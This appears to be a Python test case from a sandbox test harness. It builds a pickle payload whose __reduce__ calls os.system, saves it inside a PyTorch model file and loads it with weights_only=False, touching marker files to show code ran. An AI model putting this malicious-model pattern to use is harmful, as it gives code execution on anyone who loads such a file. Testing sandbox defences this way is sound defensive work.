# claim: saves a model file that runs code when it is loaded, and loads it
# needs: seccomp
# verdicts: shout raised
import os

import torch


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {TMP}/{MARK} /tmp/{MARK}",)


def attack():
    torch.save({"weights": Bomb()}, "model.pt")
    status = torch.load("model.pt", weights_only=False)["weights"]
    if status == 0:
        SAID.append("GAINED a shell through torch.load")
